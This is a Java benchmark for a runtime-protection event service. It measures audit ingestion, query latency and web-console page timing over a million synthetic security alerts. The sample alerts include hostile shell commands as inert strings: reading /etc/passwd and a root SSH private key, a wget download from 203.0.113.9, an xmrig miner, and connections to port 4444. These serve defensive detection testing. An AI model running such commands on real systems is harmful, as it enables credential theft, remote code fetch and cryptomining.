// event-service benchmark: REST ingestion vs raw COPY into the same PostgreSQL, then console query latency over
// 1,000,000 stored audits, then the web console's audits page over them against the API call it makes. Starts a
// throw-away PostgreSQL, the built policy-service (tokens), event-service and web-console.
import io.ward.localpg.LocalPostgres;
import io.ward.localpg.LocalService;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.postgresql.PGConnection;

public class EventBench {

    static final int BATCH = 500;
    static final int SENDERS = 4;
    static final int INGEST_ROWS = Integer.getInteger("ingestRows", 100_000);
    static final int QUERY_ROWS = Integer.getInteger("queryRows", 1_000_000);
    static final int SAMPLES = Integer.getInteger("samples", 200);
    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    public static void main(String[] args) throws Exception {
        Path home = LocalService.wardHome();
        Path logs = home.resolve("bench/event/target");
        try (LocalPostgres pg = LocalPostgres.startTemporary()) {
            String adminPassword = UUID.randomUUID().toString();
            Map<String, String> policyEnv = new HashMap<>(LocalService.databaseEnv(pg));
            policyEnv.put("WARD_ADMIN_PASSWORD", adminPassword);
            try (LocalService policy = LocalService.start(home, "policy-service", LocalService.freePort(), policyEnv,
                    logs.resolve("policy-service.log"), Duration.ofSeconds(120))) {
                Map<String, String> eventEnv = new HashMap<>(LocalService.databaseEnv(pg));
                eventEnv.put("WARD_JWKS_URL", policy.baseUrl() + "/api/v1/auth/jwks");
                eventEnv.put("WARD_POLICY_SERVICE_URL", policy.baseUrl());
                // attack-mapper is not started: classification is background work and not part of ingestion.
                eventEnv.put("WARD_ATTACK_MAPPER_URL", "http://127.0.0.1:9");
                try (LocalService event = LocalService.start(home, "event-service", LocalService.freePort(), eventEnv,
                        logs.resolve("event-service.log"), Duration.ofSeconds(120))) {
                    String token = login(policy.baseUrl(), adminPassword);
                    try (Connection db = DriverManager.getConnection(pg.jdbcUrl(), pg.username(), pg.password())) {
                        ingestion(event.baseUrl(), token, db);
                        queries(event.baseUrl(), token, db);
                    }
                    try (LocalService console = LocalService.start(home, "web-console", LocalService.freePort(),
                            Map.of("WARD_POLICY_SERVICE_URL", policy.baseUrl(), "WARD_EVENT_SERVICE_URL", event.baseUrl()),
                            logs.resolve("web-console.log"), Duration.ofSeconds(120))) {
                        consolePage(event.baseUrl(), token, console.baseUrl(), consoleSession(console.baseUrl(), adminPassword));
                    }
                }
            }
        }
    }

    // ---------------------------------------------------------------- ingestion

    static void ingestion(String base, String token, Connection db) throws Exception {
        System.out.printf("== ingestion: %,d audits, REST in batches of %d from %d senders vs one COPY ==%n",
                INGEST_ROWS, BATCH, SENDERS);
        List<String> batches = new ArrayList<>();
        StringBuilder csv = new StringBuilder();
        Instant t0 = Instant.now().minus(30, ChronoUnit.MINUTES).truncatedTo(ChronoUnit.MICROS);
        for (int b = 0; b < INGEST_ROWS / BATCH; b++) {
            StringBuilder json = new StringBuilder("[");
            for (int i = 0; i < BATCH; i++) {
                int n = b * BATCH + i;
                String id = UUID.randomUUID().toString();
                String app = "bench-" + (n % 20);
                String time = t0.plusMillis(n / 100).plusNanos((n % 100) * 1000L).toString();
                String command = "/bin/sh -c ls /tmp/" + n;
                String message = "/bin/dash launched and is not allowed by rule Org App-Embedded Runtime Protection Policy."
                        + " Full command: " + command;
                String process = "{\"path\":\"/bin/dash\",\"command\":\"" + command + "\",\"pid\":" + (1000 + n)
                        + ",\"ppid\":12,\"parentPath\":\"/usr/local/bin/python3.9\",\"user\":\"app\",\"uid\":999}";
                json.append(i == 0 ? "" : ",").append("{\"id\":\"").append(id).append("\",\"time\":\"").append(time)
                        .append("\",\"appId\":\"").append(app).append("\",\"instanceId\":\"").append(app)
                        .append(":i1\",\"type\":\"processes\",\"effect\":\"alert\",\"reason\":\"not-allowed\",")
                        .append("\"ruleName\":\"Org App-Embedded Runtime Protection Policy\",\"ruleRevision\":17,")
                        .append("\"message\":\"").append(message).append("\",\"process\":").append(process)
                        .append(",\"network\":null,\"dns\":null}");
                csv.append(String.join(",", app, time, id, app + ":i1", "processes", "alert", "not-allowed",
                        "Org App-Embedded Runtime Protection Policy", "17", message, command,
                        "\"" + process.replace("\"", "\"\"") + "\"", "", "")).append('\n');
            }
            batches.add(json.append(']').toString());
        }
        // Warm both paths (JIT, partitions, connections) on a throw-away batch, then start from an empty table.
        post(base + "/api/v1/audits/app-embedded", token, batches.get(0));
        truncate(db);

        long copyStart = System.nanoTime();
        ((PGConnection) db.unwrap(PGConnection.class)).getCopyAPI().copyIn(
                "COPY event.audits (app_id, time, id, instance_id, type, effect, reason, rule_name, rule_revision,"
                        + " message, command, process, network, dns) FROM STDIN (FORMAT csv)",
                new StringReader(csv.toString()));
        double copySeconds = (System.nanoTime() - copyStart) / 1e9;
        truncate(db);

        ExecutorService senders = Executors.newFixedThreadPool(SENDERS);
        AtomicInteger next = new AtomicInteger();
        long restStart = System.nanoTime();
        List<Future<Integer>> results = new ArrayList<>();
        for (int s = 0; s < SENDERS; s++) {
            results.add(senders.submit(() -> {
                int accepted = 0;
                for (int b; (b = next.getAndIncrement()) < batches.size(); ) {
                    String reply = post(base + "/api/v1/audits/app-embedded", token, batches.get(b));
                    accepted += Integer.parseInt(reply.replaceAll(".*\"accepted\":(\\d+).*", "$1"));
                }
                return accepted;
            }));
        }
        int accepted = 0;
        for (Future<Integer> f : results) {
            accepted += f.get();
        }
        double restSeconds = (System.nanoTime() - restStart) / 1e9;
        senders.shutdown();
        if (accepted != INGEST_ROWS) {
            throw new IllegalStateException("REST accepted " + accepted + " of " + INGEST_ROWS);
        }
        double copyRate = INGEST_ROWS / copySeconds;
        double restRate = INGEST_ROWS / restSeconds;
        System.out.printf("COPY  %,10.0f audits/s (%.2f s)%n", copyRate, copySeconds);
        System.out.printf("REST  %,10.0f audits/s (%.2f s)%n", restRate, restSeconds);
        System.out.printf("REST / COPY = %.2fx   (target >= 0.30x)%n%n", restRate / copyRate);
        truncate(db);
    }

    static void truncate(Connection db) throws Exception {
        try (Statement s = db.createStatement()) {
            s.execute("TRUNCATE event.audits, event.audit_attack, event.attack_counts_hourly");
        }
    }

    // ---------------------------------------------------------------- queries

    static void queries(String base, String token, Connection db) throws Exception {
        System.out.printf("== queries over %,d audits spread over 30 days, 20 apps ==%n", QUERY_ROWS);
        // The service creates last month's partition on demand, as for any late audit.
        Instant monthAgo = Instant.now().minus(30, ChronoUnit.DAYS).truncatedTo(ChronoUnit.MICROS);
        post(base + "/api/v1/audits/app-embedded", token, "[{\"id\":\"" + UUID.randomUUID() + "\",\"time\":\"" + monthAgo
                + "\",\"appId\":\"bench-0\",\"instanceId\":\"bench-0:i1\",\"type\":\"processes\",\"effect\":\"alert\","
                + "\"reason\":\"not-allowed\",\"ruleName\":\"r\",\"message\":\"m\",\"process\":{\"path\":\"/bin/true\",\"pid\":1}}]");
        truncate(db);
        long loadStart = System.nanoTime();
        try (Statement s = db.createStatement()) {
            s.execute(GENERATE.formatted(QUERY_ROWS, QUERY_ROWS));
            s.execute(LOOKUP);
            s.execute(ROLLUP);
            s.execute("ANALYZE event.audits");
            s.execute("ANALYZE event.audit_attack");
            s.execute("ANALYZE event.attack_counts_hourly");
        }
        System.out.printf("(generated with generate_series in %.0f s)%n", (System.nanoTime() - loadStart) / 1e9);

        Instant now = Instant.now();
        Map<String, String> cases = new LinkedHashMap<>();
        cases.put("newest 50, no filter", "/api/v1/audits/app-embedded?limit=50");
        cases.put("newest 50, appId", "/api/v1/audits/app-embedded?limit=50&appId=bench-7");
        cases.put("newest 50, appId+type=network", "/api/v1/audits/app-embedded?limit=50&appId=bench-7&type=network");
        cases.put("newest 50, effect=prevent", "/api/v1/audits/app-embedded?limit=50&effect=prevent");
        cases.put("newest 50, ruleName (2%)", "/api/v1/audits/app-embedded?limit=50&ruleName=Strict");
        cases.put("newest 50, tactic=credential-access", "/api/v1/audits/app-embedded?limit=50&tactic=credential-access");
        cases.put("newest 50, techniqueId=T1059.004 (common)", "/api/v1/audits/app-embedded?limit=50&techniqueId=T1059.004");
        cases.put("newest 50, techniqueId=T1496 (rare)", "/api/v1/audits/app-embedded?limit=50&techniqueId=T1496");
        cases.put("newest 50, q=passwd", "/api/v1/audits/app-embedded?limit=50&q=passwd");
        cases.put("newest 50, q=xmrig (rare)", "/api/v1/audits/app-embedded?limit=50&q=xmrig");
        cases.put("newest 50, last 24 h", "/api/v1/audits/app-embedded?limit=50&from="
                + enc(now.minus(1, ChronoUnit.DAYS)) + "&to=" + enc(now));
        cases.put("page 2 via cursor", null);
        cases.put("explorer 30 days", "/api/v1/attack/explorer?from=" + enc(now.minus(30, ChronoUnit.DAYS)) + "&to=" + enc(now));
        cases.put("explorer 30 days, appId", "/api/v1/attack/explorer?appId=bench-3&from=" + enc(now.minus(30, ChronoUnit.DAYS))
                + "&to=" + enc(now));
        String first = get(base + "/api/v1/audits/app-embedded?limit=50", token);
        String cursor = first.replaceAll("(?s).*\"nextCursor\":\"([^\"]+)\".*", "$1");
        cases.put("page 2 via cursor", "/api/v1/audits/app-embedded?limit=50&cursor=" + cursor);

        System.out.printf("%-40s %9s %9s  %s%n", "query (HTTP round trip)", "p50 ms", "p95 ms", "target");
        for (Map.Entry<String, String> c : cases.entrySet()) {
            boolean explorer = c.getValue().startsWith("/api/v1/attack/explorer");
            for (int i = 0; i < 20; i++) {
                get(base + c.getValue(), token);
            }
            double[] ms = new double[SAMPLES];
            for (int i = 0; i < SAMPLES; i++) {
                long start = System.nanoTime();
                get(base + c.getValue(), token);
                ms[i] = (System.nanoTime() - start) / 1e6;
            }
            Arrays.sort(ms);
            System.out.printf("%-40s %9.1f %9.1f  %s%n", c.getKey(), ms[SAMPLES / 2], ms[(int) (SAMPLES * 0.95)],
                    explorer ? "< 200 ms" : "< 50 ms");
        }
    }

    /**
     * The web console's audits page (its filters → event-service → HTML table of 50 with detail panels) against the
     * event-service call it makes, side by side over the same audits: the page's own cost is the difference.
     */
    static void consolePage(String event, String token, String console, String sessionCookie) throws Exception {
        System.out.printf("%n== the web console's audits page over the same %,d audits ==%n", QUERY_ROWS);
        Instant now = Instant.now();
        String lastDay = java.time.format.DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm").withZone(java.time.ZoneOffset.UTC)
                .format(now.minus(1, ChronoUnit.DAYS));
        Map<String, String[]> cases = new LinkedHashMap<>();
        cases.put("no filter", new String[] {"", ""});
        cases.put("appId", new String[] {"&appId=bench-7", "appId=bench-7"});
        cases.put("effect=prevent", new String[] {"&effect=prevent", "effect=prevent"});
        cases.put("tactic+techniqueId (explorer click)", new String[] {"&tactic=execution&techniqueId=T1059.004",
                "tactic=execution&techniqueId=T1059.004"});
        cases.put("q=passwd", new String[] {"&q=passwd", "q=passwd"});
        cases.put("from last 24 h", new String[] {"&from=" + enc(Instant.parse(lastDay + ":00Z")),
                "from=" + URLEncoder.encode(lastDay, StandardCharsets.UTF_8)});
        System.out.printf("%-36s %9s %9s %9s %9s %7s  %s%n", "audits page", "API p50", "API p95", "page p50",
                "page p95", "p95 x", "target (page p95)");
        for (Map.Entry<String, String[]> c : cases.entrySet()) {
            String api = event + "/api/v1/audits/app-embedded?limit=50" + c.getValue()[0];
            String page = console + "/audits?" + c.getValue()[1];
            for (int i = 0; i < 20; i++) {
                get(api, token);
                page(page, sessionCookie);
            }
            double[] apiMs = new double[SAMPLES];
            double[] pageMs = new double[SAMPLES];
            for (int i = 0; i < SAMPLES; i++) {
                long start = System.nanoTime();
                get(api, token);
                apiMs[i] = (System.nanoTime() - start) / 1e6;
                start = System.nanoTime();
                page(page, sessionCookie);
                pageMs[i] = (System.nanoTime() - start) / 1e6;
            }
            Arrays.sort(apiMs);
            Arrays.sort(pageMs);
            int p95 = (int) (SAMPLES * 0.95);
            System.out.printf("%-36s %9.1f %9.1f %9.1f %9.1f %6.2fx  < 300 ms%n", c.getKey(), apiMs[SAMPLES / 2],
                    apiMs[p95], pageMs[SAMPLES / 2], pageMs[p95], pageMs[p95] / apiMs[p95]);
        }
    }

    /** Signs in to the web console as a browser does (CSRF cookie and field, then the form) → the session cookie. */
    static String consoleSession(String console, String password) throws Exception {
        HttpResponse<String> form = HTTP.send(HttpRequest.newBuilder(URI.create(console + "/login")).build(),
                HttpResponse.BodyHandlers.ofString());
        String csrfCookie = form.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("ward_csrf="))
                .findFirst().orElseThrow().split(";", 2)[0];
        String csrf = form.body().replaceAll("(?s).*name=\"csrf-token\" value=\"([^\"]+)\".*", "$1");
        HttpResponse<String> login = HTTP.send(HttpRequest.newBuilder(URI.create(console + "/login"))
                .header("Content-Type", "application/x-www-form-urlencoded").header("Cookie", csrfCookie)
                .POST(HttpRequest.BodyPublishers.ofString("csrf-token=" + csrf + "&username=admin&password="
                        + URLEncoder.encode(password, StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString());
        return login.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("ward_session="))
                .findFirst().orElseThrow(() -> new IllegalStateException("console login failed: " + login.statusCode()))
                .split(";", 2)[0];
    }

    static String page(String url, String sessionCookie) throws Exception {
        String html = send(HttpRequest.newBuilder(URI.create(url)).header("Cookie", sessionCookie).GET());
        if (!html.contains("id=\"audit-rows\"")) {
            throw new IllegalStateException("not the audits page: " + url);
        }
        return html;
    }

    /**
     * 1M audits over 30 days: 20 apps (g % 20); independently of the app (k = g / 20), 8 kinds of command with their
     * ATT&CK classification, 10% network, 5% prevent, 2% under rule Strict; one in 100,000 is a crypto miner.
     */
    static final String GENERATE = """
            INSERT INTO event.audits (app_id, time, id, instance_id, type, effect, reason, rule_name, rule_revision,
                                      message, command, process, network, classified, attack, tactics, techniques)
            SELECT 'bench-' || (g %% 20), now() - (g * interval '30 days' / %d), gen_random_uuid(),
                   'bench-' || (g %% 20) || ':i' || (g %% 3),
                   CASE WHEN (g / 20) %% 10 = 0 THEN 'network' ELSE 'processes' END,
                   CASE WHEN (g / 20) %% 20 = 1 THEN 'prevent' ELSE 'alert' END,
                   CASE WHEN (g / 20) %% 10 = 0 THEN 'outbound' ELSE 'not-allowed' END,
                   CASE WHEN (g / 20) %% 50 = 2 THEN 'Strict' ELSE 'Org App-Embedded Runtime Protection Policy' END, 17,
                   '/bin/dash launched and is not allowed by rule Org App-Embedded Runtime Protection Policy. Full command: '
                     || c.cmd || ' ' || g,
                   c.cmd || ' ' || g,
                   jsonb_build_object('path', '/bin/dash', 'command', c.cmd || ' ' || g, 'pid', g, 'ppid', 12,
                                      'parentPath', '/usr/local/bin/python3.9', 'user', 'app', 'uid', 999),
                   CASE WHEN (g / 20) %% 10 = 0 THEN '{"direction":"outbound","protocol":"tcp","ip":"203.0.113.9","port":4444}'::jsonb END,
                   true, c.attack, c.tactics, c.techniques
              FROM generate_series(1, %d) g
              JOIN (VALUES
                (0, '/bin/sh -c ls', '[{"tactic":"execution","techniqueId":"T1059.004","techniqueName":"Command and Scripting Interpreter: Unix Shell"},{"tactic":"discovery","techniqueId":"T1083","techniqueName":"File and Directory Discovery"}]'::jsonb, '{execution,discovery}'::text[], '{T1059.004,T1083}'::text[]),
                (1, '/bin/sh -c id', '[{"tactic":"execution","techniqueId":"T1059.004","techniqueName":"Command and Scripting Interpreter: Unix Shell"},{"tactic":"discovery","techniqueId":"T1033","techniqueName":"System Owner/User Discovery"}]', '{execution,discovery}', '{T1059.004,T1033}'),
                (2, '/bin/sh -c cat /etc/passwd', '[{"tactic":"execution","techniqueId":"T1059.004","techniqueName":"Command and Scripting Interpreter: Unix Shell"},{"tactic":"discovery","techniqueId":"T1087.001","techniqueName":"Account Discovery: Local Account"}]', '{execution,discovery}', '{T1059.004,T1087.001}'),
                (3, '/bin/sh -c uname -a', '[{"tactic":"execution","techniqueId":"T1059.004","techniqueName":"Command and Scripting Interpreter: Unix Shell"},{"tactic":"discovery","techniqueId":"T1082","techniqueName":"System Information Discovery"}]', '{execution,discovery}', '{T1059.004,T1082}'),
                (4, 'cat /root/.ssh/id_rsa', '[{"tactic":"credential-access","techniqueId":"T1552.004","techniqueName":"Unsecured Credentials: Private Keys"}]', '{credential-access}', '{T1552.004}'),
                (5, 'wget http://203.0.113.9/x', '[{"tactic":"command-and-control","techniqueId":"T1105","techniqueName":"Ingress Tool Transfer"}]', '{command-and-control}', '{T1105}'),
                (6, 'python3 app.py', '[]', '{}', '{}'),
                (7, 'crontab -l', '[{"tactic":"persistence","techniqueId":"T1053.003","techniqueName":"Scheduled Task/Job: Cron"}]', '{persistence}', '{T1053.003}'),
                (8, 'xmrig -o pool', '[{"tactic":"impact","techniqueId":"T1496","techniqueName":"Resource Hijacking"}]', '{impact}', '{T1496}')
              ) AS c(k, cmd, attack, tactics, techniques)
                ON c.k = CASE WHEN g %% 100000 = 0 THEN 8 ELSE (g / 20) %% 8 END""";

    /**
     * The tactic/technique lookup and hourly explorer counts (per app and for all apps, '*') that event-service
     * keeps at classification.
     */
    static final String LOOKUP = """
            INSERT INTO event.audit_attack (key, time, id, app_id)
            SELECT 'tactic:' || t, time, id, app_id FROM event.audits CROSS JOIN unnest(tactics) t
            UNION ALL
            SELECT 'technique:' || t, time, id, app_id FROM event.audits CROSS JOIN unnest(techniques) t""";

    static final String ROLLUP = """
            INSERT INTO event.attack_counts_hourly (hour, app_id, tactic, technique_id, technique_name, count)
            SELECT date_trunc('hour', time), app, e->>'tactic', e->>'techniqueId', max(e->>'techniqueName'), count(*)
              FROM event.audits CROSS JOIN unnest(ARRAY[app_id, '*']) app CROSS JOIN jsonb_array_elements(attack) e
             GROUP BY 1, 2, 3, 4
            UNION ALL
            SELECT date_trunc('hour', time), app, t, '', '', count(*)
              FROM event.audits CROSS JOIN unnest(ARRAY[app_id, '*']) app CROSS JOIN unnest(tactics) t
             GROUP BY 1, 2, 3""";

    // ---------------------------------------------------------------- HTTP

    static String login(String policy, String password) throws Exception {
        String body = send(HttpRequest.newBuilder(URI.create(policy + "/api/v1/auth/token"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"username\":\"admin\",\"password\":\"" + password + "\"}")));
        return body.replaceAll(".*\"token\":\"([^\"]+)\".*", "$1");
    }

    static String post(String url, String token, String json) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(url)).header("Content-Type", "application/json")
                .header("Authorization", "Bearer " + token).POST(HttpRequest.BodyPublishers.ofString(json)));
    }

    static String get(String url, String token) throws Exception {
        return send(HttpRequest.newBuilder(URI.create(url)).header("Authorization", "Bearer " + token).GET());
    }

    static String send(HttpRequest.Builder request) throws Exception {
        HttpResponse<String> response = HTTP.send(request.timeout(Duration.ofSeconds(60)).build(),
                HttpResponse.BodyHandlers.ofString());
        if (response.statusCode() != 200) {
            throw new IllegalStateException(response.statusCode() + ": " + response.body());
        }
        return response.body();
    }

    static String enc(Instant t) {
        return URLEncoder.encode(t.toString(), StandardCharsets.UTF_8);
    }
}
